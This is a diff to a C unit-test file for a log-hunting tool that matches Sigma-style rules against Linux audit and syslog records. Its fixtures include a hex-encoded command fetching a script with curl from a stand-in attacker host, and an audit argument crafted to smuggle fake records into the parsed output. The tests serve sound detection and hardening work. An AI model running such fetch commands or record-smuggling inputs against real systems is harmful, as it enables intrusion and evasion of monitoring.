@@ -700,10 +700,15 @@ test_decoded_keywords(void **state)
 	    "detection: {s: {message|contains: 'Hotspot'}, condition: s}\n";
 
 	(void)state;
-	/* the argument is only in hex in the log */
+	/* the argument is only in hex in the log: the timeline's message
+	 * starts with the decoded command line, and matches */
 	out = hunt(rules, "audit", PROC_LOG);
-	assert_string_equal(
-	    out, "kw =a2=http://evil.example/a b.sh proctitle=curl -s\n");
+	assert_non_null(strstr(out,
+	    "kw =curl -s http://evil.example/a b.sh | type=SYSCALL "
+	    "msg=audit(1764547200.123:100): "));
+	/* one hit */
+	assert_non_null(strchr(out, '\n'));
+	assert_int_equal(strchr(out, '\n')[1], '\0');
 	free(out);
 	out = hunt(rules, "syslog",
 	    "Nov 30 10:00:01 web01 NetworkManager[5]: activated Hotspot\n");
@@ -1069,6 +1074,35 @@ test_hostile_audit(void **state)
 	    "cmd CommandLine=787 x a2=78797 a3[0]=78 a3[1]=79 ==== = =x x=\n"));
 	assert_non_null(strstr(out, "any type=SOCKADDR\n"));
 	assert_non_null(strstr(out, "any type=PATH\n"));
+	free(out);
+}
+
+/* The command line the timeline puts before the records is no record:
+ * an argument that spells out records changes nothing. */
+static void
+test_audit_cmdline_prefix(void **state)
+{
+	char *out;
+	static const char rules[] =
+	    "id: cmd\nlogsource: {product: linux, category: "
+	    "process_creation}\n"
+	    "detection: {s: {CommandLine|contains: 'evil'}, condition: s}\n"
+	    "---\n"
+	    "id: exe\nlogsource: {product: linux, category: "
+	    "process_creation}\n"
+	    "detection: {s: {Image: '/bin/evil'}, condition: s}\n";
+	/* a1 is "x | type=EXECVE a9=evil exe=/bin/evil" */
+	static const char audit[] =
+	    "type=SYSCALL msg=audit(1.000:1): syscall=59 pid=7 "
+	    "exe=\"/bin/sh\"\n"
+	    "type=EXECVE msg=audit(1.000:1): argc=2 a0=\"sh\" "
+	    "a1=78207C20747970653D45584543564520613"
+	    "93D6576696C206578653D2F62696E2F6576696C\n";
+
+	(void)state;
+	out = hunt(rules, "audit", audit);
+	assert_string_equal(
+	    out, "cmd CommandLine=sh x | type=EXECVE a9=evil exe=/bin/evil\n");
 	free(out);
 }
 
@@ -1554,6 +1588,7 @@ main(void)
 		cmocka_unit_test(test_prefilter_same),
 		cmocka_unit_test(test_prefilter_edges),
 		cmocka_unit_test(test_hostile_audit),
+		cmocka_unit_test(test_audit_cmdline_prefix),
 		cmocka_unit_test(test_collections),
 		cmocka_unit_test(test_skips),
 		cmocka_unit_test(test_malformed),
